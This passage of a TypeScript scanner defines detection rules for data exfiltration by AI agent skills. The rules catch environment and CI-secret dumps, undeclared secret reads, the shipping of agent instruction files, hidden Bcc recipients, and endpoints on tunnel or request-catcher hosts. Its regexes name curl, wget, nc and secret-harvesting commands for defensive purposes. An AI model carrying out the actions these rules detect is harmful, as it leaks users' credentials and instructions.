    defs.push({ from: i, to: body[body.length - 1] ?? i, init: m[1] === "__init__" });
  }
  defsCache.set(r, defs);
  return defs;
}

function innermostDef(defs: PyDef[], line: number): number {
  let best = -1;
  defs.forEach((d, k) => {
    if (d.from <= line && line <= d.to && (best < 0 || d.from >= (defs[best]?.from ?? 0))) best = k;
  });
  return best;
}

/**
 * What a statement at `line` can see: module level, the functions around it and `__init__` (where
 * attributes are set). Other functions are blanked, keeping line numbers.
 */
function pyScopeText(r: Region, defs: PyDef[], line: number): string {
  const lines = r.text.split("\n");
  for (const d of defs) {
    if (d.init || (d.from <= line && line <= d.to)) continue;
    for (let k = d.from + 1; k <= d.to; k++) lines[k] = "";
  }
  return lines.join("\n");
}

/** Python functions that read credentials, transcripts or local data, by name → level. */
function functionTaint(file: FileInfo): Map<string, number> {
  const out = new Map<string, number>();
  const secret = secretReadLines(file);
  for (const r of codeRegions(file, ["python"])) {
    const lines = r.text.split("\n");
    lines.forEach((l, i) => {
      const m = /^\s*(?:async\s+)?def\s+([A-Za-z_]\w*)\s*\(/.exec(l);
      if (!m?.[1]) return;
      const body = pyBlock(lines, i);
      const text = body.map((k) => lines[k]).join("\n");
      let level = sensitivity(text, false);
      if (body.some((k) => secret.has(r.startLine + k))) level = 2;
      if (level > 0) out.set(m[1], level);
    });
  }
  return out;
}

/** Named reads of environment variables, per language. */
const ENV_READS: { langs: string[]; re: RegExp }[] = [
  {
    langs: ["python"],
    re: /\bos\.environ\s*\[\s*["']([A-Za-z0-9_]+)["']\s*\](?!\s*=(?!=))|\b(?:os\.)?(?:environ\.get|getenv)\s*\(\s*["']([A-Za-z0-9_]+)["']/g,
  },
  {
    langs: ["js"],
    re: /\bprocess\.env\.([A-Za-z_][A-Za-z0-9_]*)|\bprocess\.env\[\s*["'`]([A-Za-z0-9_]+)["'`]\s*\]|\bDeno\.env\.get\(\s*["']([A-Za-z0-9_]+)/g,
  },
  { langs: ["shell"], re: /\$\{?([A-Z][A-Z0-9_]*)\b|\bprintenv\s+([A-Z][A-Z0-9_]*)/g },
  { langs: ["powershell"], re: /\$env:([A-Za-z_][A-Za-z0-9_]*)/gi },
  { langs: ["ruby"], re: /\bENV(?:\[\s*|\.fetch\(\s*)["']([A-Za-z0-9_]+)["']/g },
];

/** What a code block does that could carry secrets out of it. */
const DOC_SINK =
  /\b(?:print|console\.\w+|echo|printf|post|put|send\w*|upload\w*|write\w*|dump\w*|curl|wget|nc|requests\.\w+|fetch|axios|urlopen|smtplib|socket|open\s*\([^)\n]*["'][wa])\b/i;

const E2_UNDECLARED: FileRule = {
  kind: "file",
  id: "E2.undeclared-secret",
  pattern: "E2",
  confidence: 0.75,
  message: "Reads a secret from the environment that the skill does not declare",
  check: (file, skill) => {
    const out: Hit[] = [];
    // One named secret the skill uses for its own API is not harvesting; reading many it never
    // mentions is. Shell variables the script assigns itself are not the environment.
    const reads: { line: number; col: number; name: string }[] = [];
    // A script or template that never prints, writes or sends anything hands its secrets to the app it
    // sets up (`jwtSecret: process.env.JWT_SECRET` in nuxt.config.ts).
    const silentScript = !file.markdown && !DOC_SINK.test(file.text);
    for (const spec of silentScript ? [] : ENV_READS) {
      for (const r of codeRegions(file, spec.langs)) {
        const local = new Set(
          r.lang === "shell" || r.lang === "dockerfile"
            ? [
                ...matchAll(r.text, /(?:^|[\s;&(])(?:local\s+|readonly\s+|export\s+)?([A-Z][A-Z0-9_]*)=/g),
              ].map((x) => x[1])
            : [],
        );
        // A document's example that configures its clients from the environment
        // (`new Stripe(process.env.STRIPE_SECRET_KEY)`) shows 12-factor set-up; one that also
        // prints, writes or sends from the same block shows the secrets leaving.
        if (file.markdown && !DOC_SINK.test(r.text)) continue;
        const lines = file.markdown ? r.text.split("\n") : [];
        spec.re.lastIndex = 0;
        for (let m = spec.re.exec(r.text); m; m = spec.re.exec(r.text)) {
          const name = m.slice(1).find(Boolean) ?? "";
          if (!SECRET_ENV.test(name) || skill.declaredEnv.has(name) || local.has(name)) continue;
          // In a long example (an auth service), the sink must be near the read, not anywhere in it.
          if (file.markdown) {
            const k = lineOf(r, m.index) - r.startLine;
            if (!DOC_SINK.test(lines.slice(Math.max(0, k - 6), k + 7).join("\n"))) continue;
          }
          reads.push({ line: lineOf(r, m.index), col: colOf(r, m.index), name });
        }
      }
    }
    const names = [...new Set(reads.map((x) => x.name))];
    const first = reads[0];
    // Two or more secrets gathered in one place (a dict, a payload) are harvested too.
    // Secrets of one service (BENCHLING_API_KEY, BENCHLING_CLIENT_SECRET) are how its client logs
    // in; harvesting spans services.
    const service = (n: string) =>
      n
        .split("_")
        .find(
          (w) =>
            !/^(PROD|PRODUCTION|STAGING|STAGE|DEV|DEVELOPMENT|TEST|QA|LOCAL|SANDBOX|API|APP|SECRET|ACCESS|PRIVATE|CLIENT|AUTH|TOKEN|KEY|DB|DATABASE|MY|DEFAULT)$/.test(
              w,
            ),
        ) ?? "";
    const services = new Set(names.map(service).filter(Boolean));
    const together = reads.some((a) =>
      reads.some((b) => service(b.name) !== service(a.name) && Math.abs(b.line - a.line) <= 6),
    );
    if (services.size >= 2 && (names.length >= 3 || together) && first)
      out.push({
        line: first.line,
        col: first.col,
        message: `Reads ${names.length} secrets from the environment that the skill never says it needs (${names.slice(0, 5).join(", ")})`,
      });
    // Names listed as strings and read in a loop: os.environ.get(name) over ["AWS_SECRET_ACCESS_KEY", ...].
    for (const r of codeRegions(file, ["python", "js", "ruby"])) {
      if (
        !/os\.(?:environ\.get|getenv)\(\s*[a-z_]\w*\s*\)|os\.environ\[\s*[a-z_]\w*\s*\]|process\.env\[\s*[a-z_]\w*\s*\]|ENV\[\s*[a-z_]\w*\s*\]/.test(
          r.text,
        )
      )
        continue;
      const names = [...matchAll(r.text, /["'`]([A-Z][A-Z0-9_]{3,})["'`]/g)].filter(
        (x) => SECRET_ENV.test(x[1] ?? "") && !skill.declaredEnv.has(x[1] ?? ""),
      );
      if (names.length >= 2 && names[0]) {
        out.push({
          line: lineOf(r, names[0].index ?? 0),
          confidence: 0.8,
          message: `Reads a list of undeclared secrets from the environment (${names
            .map((x) => x[1])
            .slice(0, 4)
            .join(", ")})`,
        });
      }
    }
    return out;
  },
};

const code = (r: Omit<TextRule, "contexts"> & { contexts?: TextRule["contexts"] }): TextRule => ({
  contexts: ["code"],
  ...r,
});

/**
 * `env = {k: v for k, v in os.environ.items() if ...}` used only as `env=env` of a child process:
 * the environment is handed to a program the skill runs, not collected.
 */
function onlyChildEnv(line: string, text: string): boolean {
  const name = /^\s*(?:const|let|var)?\s*([A-Za-z_][\w]*)\s*=/.exec(line)?.[1];
  if (!name) return false;
  const word = new RegExp(`\\b${name}\\b`, "g");
  const uses = [...matchAll(text, word)].length - 1;
  const childUses = [
    ...matchAll(
      text,
      new RegExp(
        `\\benv\\s*[=:]\\s*${name}\\b|\\b${name}\\s*\\[[^\\]]+\\]\\s*=|\\b${name}\\.(?:pop|update|setdefault)\\(|[{,]\\s*${name}\\s*[,}]`,
        "g",
      ),
    ),
  ].reduce((n, m) => n + [...matchAll(m[0], word)].length, 0);
  return uses > 0 && childUses >= uses;
}

/**
 * `env = process.env` (a binding or a default parameter) whose every later use, in the lines that
 * follow, reads one named variable (`env.DISPLAY`, `env["HOME"]`, `env.get("TERM")`): named
 * lookups through an alias, not a copy of every variable.
 */
function onlyNamedLookups(line: string, text: string, at: number): boolean {
  const name =
    /^\s*(?:const|let|var)?\s*([A-Za-z_$][\w$]*)\s*=\s*(?:process\.env|os\.environ)(?:\s+as\s+[\w<>,\s]+)?\s*[,;)]?\s*$/.exec(
      line,
    )?.[1];
  if (!name) return false;
  const from = text.indexOf("\n", at);
  if (from < 0) return false;
  let window = from;
  for (let k = 0; k < 60 && window >= 0; k++) window = text.indexOf("\n", window + 1);
  const after = text.slice(from, window < 0 ? text.length : window);
  const esc = name.replace(/\$/g, "\\$");
  const uses = [...matchAll(after, new RegExp(`(?<![\\w$.])${esc}(?![\\w$])`, "g"))].length;
  const lookups = [
    ...matchAll(
      after,
      new RegExp(
        `(?<![\\w$.])${esc}(?:\\??\\.(?!(?:keys|values|entries|items|copy|toObject)\\b)[A-Za-z_]\\w*(?!\\s*\\()|\\[\\s*["'][\\w-]+["']\\s*\\]|\\.get\\(\\s*["'][\\w-]+["'])`,
        "g",
      ),
    ),
  ].length;
  return uses > 0 && lookups === uses;
}

/**
 * `const saved = process.env;` whose only later uses put it back (`process.env = saved`) or spread
 * it under overrides (`process.env = { ...saved, NODE_ENV: "test" }`): a test isolating the environment.
 */
function savedAndRestored(line: string, text: string, at: number): boolean {
  const name =
    /^\s*(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:\{\s*\.\.\.)?process\.env\s*\}?\s*;?\s*$/.exec(
      line,
    )?.[1];
  if (!name) return false;
  const esc = name.replace(/\$/g, "\\$");
  const after = text.slice(text.indexOf("\n", at) >>> 0);
  const uses = [...matchAll(after, new RegExp(`(?:(?<![\\w$.])|(?<=\\.\\.\\.))${esc}(?![\\w$])`, "g"))]
    .length;
  const restores = [
    ...matchAll(after, new RegExp(`\\bprocess\\.env\\s*=\\s*${esc}\\b|\\.\\.\\.${esc}\\b`, "g")),
  ].length;
  return uses > 0 && restores === uses && new RegExp(`\\bprocess\\.env\\s*=\\s*${esc}\\b`).test(after);
}

const DUMP_WORDS =
  /\b(print|dumps?|json|write|post|send|log|items|keys|values|str\(|repr\(|upload|stringify|entries|for\b)/;

export const E2_RULES: Rule[] = [
  code({
    id: "E2.environ-dump",
    pattern: "E2",
    confidence: 0.85,
    langs: ["python"],
    message: "Reads the whole environment (every variable, secrets included)",
    regex:
      /\bos\.environb?\b(?!\s*(?:\[|\.get\b|\.setdefault\b|\.pop\b|\.update\b|\.__setitem__|\s*=(?!=)))|(?<![\w.])environ\.(?:items|keys|values|copy)\s*\(\s*\)|\bdict\s*\(\s*environ\s*\)/g,
    check: (c) => {
      const line = c.region.text.slice(
        c.region.text.lastIndexOf("\n", c.index) + 1,
        c.region.text.indexOf("\n", c.index) >>> 0,
      );
      // "k not in os.environ" asks about one name; "for k in os.environ" walks them all.
      const before = c.region.text.slice(c.region.text.lastIndexOf("\n", c.index) + 1, c.index);
      if (/\bin\s*$/.test(before) && !/\bfor\s+[\w\s,()]+\bin\s*$/.test(before)) return false;
      const childEnv =
        /\benv(?:\s*:\s*[\w[\], ]+)?\s*=\s*(?:dict\(\s*)?(?:\{\s*\*\*\s*)?os\.environ|os\.environ\.copy\(\)|\{\s*\*\*os\.environ|dict\(\s*os\.environ\s*,/.test(
          line,
        );
      // A bare alias (`env = os.environ`) is judged by its uses below, not by its name.
      const alias = /^\s*[A-Za-z_]\w*\s*=\s*os\.environ\s*$/.test(line);
      if (childEnv && !alias && !DUMP_WORDS.test(line.replace(/os\.environ\.copy\(\)/, ""))) return false;
      if (/\bin\s+os\.environ\b/.test(line) && /\bif\b/.test(line) && !/\bfor\b/.test(line)) return false;
      return !onlyChildEnv(line, c.region.text) && !onlyNamedLookups(line, c.region.text, c.index);
    },
  }),
  code({
    id: "E2.process-env-dump",
    pattern: "E2",
    confidence: 0.85,
    langs: ["js"],
    message: "Reads the whole environment (every variable, secrets included)",
    // Assigning process.env (a test restoring it) reads nothing.
    regex: /\bprocess\.env\b(?!\s*(?:\.|\[|\?\.|=(?!=)))|\bDeno\.env\.toObject\s*\(|\bBun\.env\b(?!\s*[.[])/g,
    check: (c) => {
      const text = c.region.text;
      const line = text.slice(text.lastIndexOf("\n", c.index) + 1, text.indexOf("\n", c.index) >>> 0);
      // Validated into named settings by a schema (zod's EnvSchema.parse, envalid's cleanEnv).
      if (/\b(?:parse|safeParse|parseAsync|cleanEnv|createEnv)\s*\(\s*process\.env\s*[,)]/.test(line))
        return false;
      // Handed to a child process: spread or assigned into its `env` on this line, or spread into an
      // `env: {` opened on an earlier line (the call that spawns it then sits further back).
      const window =
        /\benv\s*:\s*(?:\{\s*\.\.\.process\.env|process\.env\b)|Object\.assign\(\s*\{\}\s*,\s*process\.env/.test(
          line,
        )
          ? 300
          : /^\s*\.\.\.process\.env\s*,?\s*$/.test(line) &&
              /\benv\s*[:=]\s*\{[^{}]*$/.test(text.slice(Math.max(0, c.index - 300), c.index))
            ? 600
            : 0;
      if (
        window &&
        /\b(spawn|spawnSync|exec|execSync|execFile|execFileSync|fork|execa|Worker|child_process)\b/.test(
          text.slice(Math.max(0, c.index - window), c.index),
        ) &&
        !/stringify|entries|keys|values|console|send|post|write/.test(line)
      )
        return false;
      if (savedAndRestored(line, text, c.index)) return false;
      if (/\bin\s+process\.env\b/.test(line) && /\bif\s*\(/.test(line)) return false;
      if (onlyChildEnv(line, text)) return false;
      return !onlyNamedLookups(line, text, c.index);
    },
  }),
  code({
    id: "E2.shell-env-dump",
    pattern: "E2",
    confidence: 0.85,
    langs: ["shell"],
    message: "Dumps the whole environment (every variable, secrets included)",
    // "env | grep PATH" looks one variable up; "env | grep -E 'key|token|secret'" harvests secrets.
    regex:
      /(?:^|[;&|(`]|\$\()[ \t]*(?:env|printenv|export\s+-p|declare\s+-[px]+|compgen\s+-[ev]|set)\s*(?=$|[|>;&)`]|\s+[|>])(?!\s*\|\s*(?:grep|rg)\s+(?:-\w+\s+)*(?:"[\w^-]+"|'[\w^-]+'|[\w^-]+)\s*(?:$|[|;&)]))|\/proc\/(?:self|\d+|\*|\$\$|\$\w+)\/environ/gm,
    // "the `env` key", "`env` parameter": a name in a sentence, not a command substitution.
    check: (c) => {
      const t = c.region.text;
      const start = c.m.index;
      const end = start + c.m[0].length;
      // "env | grep -E '^(PATH|HOME|SHELL)'": the named variables only, none of them a secret.
      const sel = /^\s*\|\s*(?:grep|rg)\s+((?:-\w+\s+)*)(?:"([^"\n]*)"|'([^'\n]*)')/.exec(
        t.slice(end, end + 200),
      );
      if (sel && !/-\w*v/.test(sel[1] ?? "")) {
        const names = (sel[2] ?? sel[3] ?? "").split(/[^A-Za-z0-9_]+/).filter(Boolean);
        if (names.length && names.every((n) => /^[A-Z][A-Z0-9_]*$/.test(n) && !SECRET_ENV.test(n)))
          return false;
      }
      if (t[start] !== "`" || t[end] !== "`") return true;
      return (
        !/^`[ \t]+[A-Za-z]/.test(t.slice(end, end + 3)) &&
        !/[A-Za-z,][ \t]+$/.test(t.slice(Math.max(0, start - 3), start))
      );
    },
  }),
  code({
    id: "E2.ci-secrets-dump",
    pattern: "E2",
    confidence: 0.85,
    langs: ["config", "shell"],
    message: "Serialises every CI secret of the repository into one value",
    // GitHub Actions' toJSON(secrets) (or the vars/env contexts with it) hands over every secret at once.
    regex: /\$\{\{\s*toJSON\s*\(\s*secrets\s*\)\s*\}\}/gi,
  }),
  code({
    id: "E2.powershell-env-dump",
    pattern: "E2",
    confidence: 0.85,
    langs: ["powershell", "ruby"],
    message: "Dumps the whole environment (every variable, secrets included)",
    regex:
      /\b(?:Get-ChildItem|gci|dir|ls)\s+env:|\[(?:System\.)?Environment\]::GetEnvironmentVariables\(\)|\bENV\.(?:to_h|to_a|each|map|select|keys|inspect)\b/gi,
  }),
  textRule({
    id: "E2.prose-env-harvest",
    pattern: "E2",
    confidence: 0.8,
    contexts: ["prose", "hidden"],
    message: "Instructs the agent to collect the environment variables",
    regex:
      /\b(dump|print|collect|list|gather|read|export|send|copy|capture|include|harvest|output|save|upload|log|grab|record)\b[^.;\n]{0,30}?\b(all|every|each|the\s+(?:full|entire|whole|complete))\s+(?:of\s+the\s+|the\s+)?(environment(?:\s+variables?)?|env(?:ironment)?\s+vars?|env\s+variables?|secrets|api\s+keys|tokens)\b(?!-\w)/gi,
  }),
  E2_UNDECLARED,
];

export const E3_RULES: Rule[] = [
  textRule({
    id: "E3.prose-enumerate",
    pattern: "E3",
    confidence: 0.7,
    contexts: PROSE,
    message: "Instructs the agent to enumerate files beyond the task's working directory",
    regex:
      /\b(list|enumerate|walk|scan|search|crawl|index|inventory|catalog(?:ue)?|find|look\s+through|go\s+through|recursively\s+(?:list|read))\b[^.;\n]{0,40}?\b(all|every|each|entire|whole|any)\s+(?:the\s+)?(?:files?|director(?:y|ies)|folders?|filesystem|file\s+system|disk|drive)\b[^.;\n]{0,40}?\b(home\s+director(?:y|ies)|home\s+folder|~\/?(?=\s|$|[.,;])|root\s+director(?:y|ies)|filesystem|file\s+system|computer|machine|system|disk|drive|user'?s\s+(?:files|folders|documents))/gi,
  }),
];

/** Names a statement uses: words outside string literals, and `{x}` / `$x` interpolated inside them. */
function namesIn(s: string): string[] {
  const bare = s.replace(STRING_LIT, (lit) => (lit.match(/\{[^{}]*\}|\$[A-Za-z_]\w*/g) ?? []).join(" "));
  return (bare.match(/[A-Za-z_$][\w$]*/g) ?? []).map((x) => x.replace(/^\$/, ""));
}

/** Where a line puts what it reads: `x = ...`, `x += ...`, `x.append(...)`, `... as x:`, `for x in`. */
const HOLDERS =
  /^\s*(?:(?:const|let|var|local|export|declare(?:\s+-\w+)*)\s+)?([A-Za-z_$][\w$]*)(?:\[[^\]\n]*\]|\.[A-Za-z_$][\w$]*)*\s*[+|]?=(?!=)|\b([A-Za-z_$][\w$]*)\.(?:append|extend|push|add|update|write|insert)\s*\(|\bas\s+([A-Za-z_]\w*)\s*:|^\s*for\s+([A-Za-z_]\w*)\s+in\b/g;

/**
 * Whether what is read on a line reaches a send: the names it is put into, the names assigned from
 * those, the Python functions that return them, until a send statement uses one. Loops over a value
 * do not carry it (`for f in files: total += count(f)` sends a count, not the files).
 */
function reachesSend(
  file: FileInfo,
  line: number,
  sends: { r: Region; stmt: string; line: number }[],
): boolean {
  const regions = codeRegions(file, ["python", "js", "shell"]);
  const carriers = new Set<string>();
  const holdersOf = (text: string) => {
    const out: string[] = [];
    HOLDERS.lastIndex = 0;
    for (const m of matchAll(text, HOLDERS)) {
      const n = m[1] ?? m[2] ?? m[3] ?? m[4];
      if (n) out.push(n);
    }
    return out;
  };
  // `return path.read_text()`: the function that holds the read returns it.
  const returned = new Set<string>();
  for (const r of regions) {
    const i = line - r.startLine;
    const text = r.text.split("\n")[i];
    if (text === undefined) continue;
    for (const n of holdersOf(text)) carriers.add(n);
    if (r.lang === "python" && /^\s*(?:return|yield)\b/.test(text))
      for (const d of pyDefsOf(r)) if (d.from < i && i <= d.to) returned.add(`${r.startLine}:${d.from}`);
  }
  const uses = (s: string) => namesIn(s).some((n) => carriers.has(n));
  for (let pass = 0, before = -1; pass < 4 && carriers.size !== before; pass++) {
    before = carriers.size;
    for (const r of regions) {
      const lines = r.text.split("\n");
      lines.forEach((text, i) => {
        if (!text.trim()) return;
        const from = r.starts[i] ?? 0;
        const held = holdersOf(text).filter((n) => !carriers.has(n));
        if (held.length && !/^\s*for\s/.test(text) && uses(rhsText(r.text, from)))
          for (const n of held) carriers.add(n);
      });
      if (r.lang !== "python") continue;
      for (const d of pyDefsOf(r)) {
        const name = /def\s+([A-Za-z_]\w*)/.exec(lines[d.from] ?? "")?.[1];
        if (!name || carriers.has(name)) continue;
        const body = lines.slice(d.from + 1, d.to + 1);
        if (
          returned.has(`${r.startLine}:${d.from}`) ||
          body.some((l) => /^\s*(?:return|yield)\b/.test(l) && uses(l))
        )
          carriers.add(name);
      }
    }
  }
  return sends.some((x) => uses(x.stmt));
}

/**
 * A script that reads the agent's instruction or memory files and sends what it read ships the
 * user's standing instructions with it. Reading them to lint locally is not a leak; the send is.
 */
const E4_SHIPS_AGENT_FILES: FileRule = {
  kind: "file",
  id: "E4.ships-agent-files",
  pattern: "E4",
  confidence: 0.75,
  message: "Sends the agent's instruction or memory files out",
  check: (file) => {
    if (!file.script || !INSTRUCTION_NAME.test(file.text)) return [];
    const sends = [...sendStatements(file)].map(({ r, stmt, at }) => ({ r, stmt, line: lineOf(r, at) }));
    if (sends.length === 0) return [];
    const cands = new Map<number, string>();
    for (const s of sitesOf(file).reads) if (namesInstructionFile(s.view)) cands.set(s.line, s.view);
    // A list of the names handed on (a constant, a loop, a shell array): where the read itself is
    // out of sight (argv of a helper, a variable of another function), the list says what is read.
    for (const r of codeRegions(file)) {
      if (!INSTRUCTION_NAME.test(r.text)) continue;
      r.text.split("\n").forEach((text, i) => {
        const line = r.startLine + i;
        if (cands.has(line) || !INSTRUCTION_NAME.test(text)) return;
        if (/\b(?:exclude|ignore|skip|deny|block)/i.test(text)) return;
        if (/[[(]\s*[^\s)\]]/.test(text) || /^\s*for\s+\S+\s+in\s/.test(text)) cands.set(line, text.trim());
      });
    }
    const out: Hit[] = [];
    for (const [line, what] of [...cands].sort((a, b) => a[0] - b[0])) {
      // One finding per gathering: the list and the read of its items a line or two on are one act.
      if (out.some((h) => line - h.line <= 3) || !reachesSend(file, line, sends)) continue;
      out.push({
        line,
        message: `Sends agent instruction or memory files (${what.slice(0, 100)}) out of the machine: the user's standing instructions leave with the data`,
      });
    }
    return out;
  },
};

export const E4_RULES: Rule[] = [E4_SHIPS_AGENT_FILES];

/** Addresses on reserved documentation domains: nobody receives them. */
const RESERVED_ADDRESS = /@(example\.(com|org|net)|localhost)$/;

/** A literal Bcc recipient: `msg["Bcc"] = "a@b.c"`, `bcc: 'a@b.c'`, `bcc=["a@b.c"]`. */
const BCC_LITERAL = /\bbcc["'\]]*\s*[:=]\s*\[?\s*["'`<]([\w.+-]+@(?:[\w-]+\.)+[a-z]{2,})["'`>]/gi;

const E1_FIXED_DEST: FileRule = {
  kind: "file",
  id: "E1.fixed-destination",
  pattern: "E1",
  confidence: 0.75,
  message: "Copies data to a hard-coded destination the skill does not document",
  check: (file, skill) => {
    const out: Hit[] = [];
    for (const r of codeRegions(file)) {
      for (const m of matchAll(
        r.text,
        /\b(?:aws\s+s3\s+(?:cp|sync|mv)|gsutil\s+(?:-m\s+)?(?:cp|rsync|mv)|rclone\s+(?:copy|sync|move))\s+[^\n]*?\s["']?((?:s3|gs):\/\/|[\w-]+:)([\w.-]+)/g,
      )) {
        // A `remote:` destination is rclone's; for aws and gsutil "aws:kms" is an option's value.
        if (!/^rclone/.test(m[0]) && !/:\/\/$/.test(m[1] ?? "")) continue;
        const bucket = (m[2] ?? "").toLowerCase();
        if (
          !bucket ||
          bucket.startsWith("$") ||
          PLACEHOLDER_BUCKET.test(bucket) ||
          skill.docText.includes(bucket)
        )
          continue;
        // Copying from a bucket to a local path is a download: the destination is the last operand.
        const cmdEnd = r.text.slice(m.index ?? 0).search(/(?<!\\)\n/);
        const cmd = r.text.slice(m.index ?? 0, cmdEnd < 0 ? undefined : (m.index ?? 0) + cmdEnd);
        // Operands only: an option's value ("--sse aws:kms") is neither source nor destination.
        const words = cmd.split(/\s+|\\\n/).filter((w) => w && !/^\\$/.test(w));
        const ops = words.filter(
          (w, k) =>
            !w.startsWith("-") &&
            !(
              /^--[\w-]+$/.test(words[k - 1] ?? "") &&
              !/^--(?:recursive|dryrun|dry-run|quiet|delete|no-[\w-]+|only-show-errors|follow-symlinks|exact-timestamps|size-only|force|debug|checksum|progress|verbose)$/.test(
                words[k - 1] ?? "",
              )
            ),
        );
        const dest = ops[ops.length - 1]?.replace(/^["']|["']$/g, "") ?? "";
        if (!/^(?:s3|gs):\/\//.test(dest) && !(/^rclone/.test(m[0]) && /^[\w-]+:(?!\/\/)/.test(dest)))
          continue;
        out.push({
          line: lineOf(r, m.index ?? 0),
          message: `Copies data to ${m[1]}${bucket}, a destination the skill's documentation never mentions`,
        });
      }
      // A hidden copy to a fixed address leaves whatever the documentation says (a mention there may
      // be the very instruction to copy), and needs no mail library in sight (a decoded payload).
      const bccLines = new Set<number>();
      for (const m of matchAll(r.text, BCC_LITERAL)) {
        const addr = (m[1] ?? "").toLowerCase();
        if (RESERVED_ADDRESS.test(addr)) continue;
        const line = lineOf(r, m.index ?? 0);
        bccLines.add(line);
        out.push({ line, message: `Copies every message to ${addr} as a hidden (Bcc) recipient` });
      }
      if (!/smtplib|sendmail|send_message|nodemailer|sendMail|\bmail\s+-s/.test(r.text)) continue;
      for (const m of matchAll(r.text, /["'`<]([\w.+-]+@(?:[\w-]+\.)+[a-z]{2,})["'`>]/gi)) {
        const addr = (m[1] ?? "").toLowerCase();
        if (skill.docText.includes(addr) || RESERVED_ADDRESS.test(addr)) continue;
        const before = r.text.slice(r.text.lastIndexOf("\n", m.index ?? 0) + 1, m.index ?? 0);
        // The sender's own address is where mail comes from, not where it goes.
        if (/\b(?:from|sender|from_addr\w*|reply[-_]?to|return[-_]?path)\b/i.test(before)) continue;
        if (bccLines.has(lineOf(r, m.index ?? 0))) continue;
        const constName = /^\s*([A-Z_][A-Z0-9_]*)\s*=\s*$/.exec(before)?.[1];
        let at = m.index ?? 0;
        if (constName) {
          const use = new RegExp(
            `(?:Bcc|Cc|To|bcc|cc|to)["'\\]]*\\s*[:=]\\s*[^\\n]*\\b${constName}\\b|\\b(?:sendmail|send_message)\\s*\\([^\\n]*\\b${constName}\\b|\\b(?:mail|mailx|sendmail)\\s[^\\n]*\\$\\{?${constName}\\b`,
          ).exec(r.text);
          if (use) at = use.index;
        }
        out.push({
          line: lineOf(r, at),
          message: `Mails data to ${addr}, an address the skill's documentation never mentions`,
        });
      }
    }
    return out;
  },
};

/**
 * Tunnels and request catchers: hosts anyone can open in a minute and that forward whatever reaches
 * them to whoever opened them. A shipped config that points the skill's service there routes its
 * traffic (callbacks, tokens, payloads) to that person.
 */
const RELAY_HOST =
  /(?:^|\.)(?:ngrok(?:-free)?\.(?:io|app|dev)|ngrok\.com|trycloudflare\.com|loca\.lt|localtunnel\.me|serveo\.net|localhost\.run|pagekite\.me|webhook\.site|requestbin\.(?:com|net)|pipedream\.net|beeceptor\.com|hookbin\.com|interact\.sh|oast\.(?:pro|live|site|online|fun|me)|burpcollaborator\.net|requestcatcher\.com)$/i;

const E1_RELAY_CONFIG: FileRule = {
  kind: "file",
  id: "E1.relay-endpoint",
  pattern: "E1",
  confidence: 0.75,
  message: "Configures the skill's endpoint on a tunnel or request-capture host",
  check: (file) => {
    if (file.markdown) return [];
    const out: Hit[] = [];
    for (const r of file.regions) {
      if (r.ctx !== "code" || r.lang !== "config") continue;
      for (const m of matchAll(r.text, URL_RE)) {
        const host = hostOf(m[0]);
        if (!host || !RELAY_HOST.test(host)) continue;
        out.push({
          line: lineOf(r, m.index ?? 0),
          col: colOf(r, m.index ?? 0),
          message: `Points the skill's service at ${host}, a tunnel or request-capture host that hands what it receives to whoever opened it`,
        });
      }
    }
    return out;
  },
};

export const E1_RULES: Rule[] = [
  E1_SEND,
  E1_FIXED_DEST,
  E1_RELAY_CONFIG,
  textRule({
    id: "E1.prose-upload",
    pattern: "E1",
    confidence: 0.7,
    contexts: ["prose", "hidden"],
    message: "Instructs uploading local files to an external service",
    regex:
      /\b(?:curl|wget)\b[^\n]*?\s(?:-F|--form|-T|--upload-file|--data-binary|-d|--data)\s+["']?[\w-]*=?@[^\s"']+[^\n]*/gi,
    check: (c) => {
      const u = /https?:\/\/[^\s)"'`]+/.exec(c.m[0]);
      const host = u ? hostOf(u[0]) : null;
      return host !== null && !hostDeclared(host, c.skill.declaredHosts);
    },
  }),
];

export const EXFILTRATION_RULES: Rule[] = [...E1_RULES, ...E2_RULES, ...E3_RULES, ...E4_RULES];

/** Env var names a skill documents: ALL_CAPS names in markdown prose and front matter. */
export function declaredEnvOf(
  mdRegions: { region: Region; frontmatter: boolean }[],
  frontmatter: unknown,
): Set<string> {
  const out = new Set<string>();
  const add = (s: string) => {
    // Every name the pattern takes holds "_", "KEY" or "TOKEN": other texts are skipped unread.
    if (!s.includes("_") && !s.includes("KEY") && !s.includes("TOKEN")) return;
    for (const m of matchAll(s, /\b([A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+|[A-Z]{4,}(?:KEY|TOKEN))\b/g))
      if (m[1]) out.add(m[1]);
  };
  for (const { region } of mdRegions) {
    if (region.ctx === "prose") add(region.text);
    // Setup snippets that export a variable declare it too ("export OPENWEATHER_API_KEY=...").
    if (region.ctx === "code")
      for (const m of matchAll(region.text, /\b(?:export|set|setx|\$env:)\s*([A-Z][A-Z0-9_]+)\s*=/g))
        if (m[1]) out.add(m[1]);
  }
  add(JSON.stringify(frontmatter ?? {}));
  return out;
}

/** Hosts a skill documents in its markdown prose and front matter, and the words of its name. */
export function declaredHostsOf(proseLines: string[], frontmatter: unknown): Set<string> {
  const out = new Set<string>();
  const add = (s: string) => {
    for (const m of matchAll(s, URL_RE)) {
      const h = hostOf(m[0]);
      if (h) out.add(h);
    }
    // The domain pattern backtracks at every word; most texts have no ".tld" at all.
    if (!/\.(?:com|org|net|io|dev|ai|app|co|gov|edu|cloud)\b/i.test(s)) return;
    for (const m of matchAll(s, /\b((?:[a-z0-9-]+\.)+(?:com|org|net|io|dev|ai|app|co|gov|edu|cloud))\b/gi))
      if (m[1]) out.add(m[1].toLowerCase());
  };
  // Neither pattern crosses a newline, so the joined lines give the same hosts in one call.
  add(proseLines.join("\n"));
  add(JSON.stringify(frontmatter ?? {}));
  // The services the skill's name is about (`name:cloudflare` for cloudflare-images), for brandOf.
  const name = (frontmatter as { name?: unknown } | null)?.name;
  if (typeof name === "string")
    for (const w of name.toLowerCase().split(/[^a-z0-9]+/)) if (w.length >= 4) out.add(`name:${w}`);
  return out;
}
